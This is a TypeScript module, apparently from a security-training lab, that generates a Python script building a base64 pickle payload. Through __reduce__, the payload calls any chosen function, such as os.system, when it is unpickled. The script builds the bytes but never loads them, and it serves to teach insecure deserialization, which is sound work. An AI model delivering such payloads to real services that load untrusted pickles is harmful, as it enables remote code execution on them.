/**
 * The payload builder's pickle as a standard-library Python 3.8+ script: an object whose
 * __reduce__ returns (callable, args), pickled, printed as base64. The script builds the bytes and
 * never loads them; its output is byte for byte what the lab's builder (core/pickle/payload.ts)
 * makes from the same callable, arguments and protocol.
 */
import { assert } from '../../../core/result';
import { pythonBytes, pythonFloat, pythonInt, pythonString } from '../../../core/script';
import type { PayloadArg, PayloadSpec } from './pickle/payload';

const DOTTED = /^[A-Za-z_]\w*(\.[A-Za-z_]\w*)*$/;

function pythonValue(arg: PayloadArg): string {
  if (arg === null) return 'None';
  if (typeof arg === 'boolean') return arg ? 'True' : 'False';
  if (typeof arg === 'bigint') return pythonInt(arg);
  if (typeof arg === 'number') return pythonFloat(arg);
  if (typeof arg === 'string') return pythonString(arg);
  return pythonBytes(arg);
}

/** A Python tuple display: `()`, `('id',)`, `('a', 1)`. */
function pythonTuple(args: readonly PayloadArg[]): string {
  if (args.length === 1) return `(${pythonValue(args[0]!)},)`;
  return `(${args.map(pythonValue).join(', ')})`;
}

export function payloadScript(spec: PayloadSpec): string {
  const { module, name, args, protocol } = spec;
  assert(Number.isInteger(protocol) && protocol >= 0 && protocol <= 5, 'payload script: protocol');
  // Only dotted identifiers reach the script's text unquoted (parseCallable checks the same).
  assert(DOTTED.test(module) && DOTTED.test(name), 'payload script: callable');
  return String.raw`#!/usr/bin/env python3
"""A pickle that calls ${module}.${name}(*ARGS) when it is loaded, made the way an attacker makes it.

From Security Playground's untrusted-data lab. An object's __reduce__ tells pickle how to rebuild
it: "call this, with these arguments". pickle.dumps writes that call into the bytes, and
pickle.loads makes it. This script only builds the bytes and prints them as base64: it never
loads them. It does import ${module}, because pickle only writes the name of a callable it can
find, but it never calls it.

Standard library only, Python 3.8 or later:  python3 payload.py
"""
import base64
import importlib
import io
import pickle
import sys

MODULE, NAME = ${pythonString(module)}, ${pythonString(name)}
ARGS = ${pythonTuple(args)}
PROTOCOL = ${protocol}

try:
    target = importlib.import_module(MODULE)
    for part in NAME.split('.'):
        target = getattr(target, part)
except (ImportError, AttributeError):
    sys.exit('There is no %s.%s here, and pickle only names a callable it can find.' % (MODULE, NAME))


class Payload:
    def __reduce__(self):
        return (target, ARGS)  # what pickle.loads will call


class Pickler(pickle.Pickler):
    """pickle.dumps, except that it names the callable MODULE.NAME, as the lab does. On its own it
    writes the module the function says it is from (os.system says posix): the same function,
    other bytes."""

    def reducer_override(self, obj):
        if obj is not target:
            return NotImplemented
        try:
            obj.__module__ = MODULE
        except (AttributeError, TypeError):
            pass  # no __module__ to set (a method of a type): pickle finds the module by itself
        return NAME


out = io.BytesIO()
Pickler(out, protocol=PROTOCOL).dump(Payload())
print(base64.b64encode(out.getvalue()).decode())
`;
}
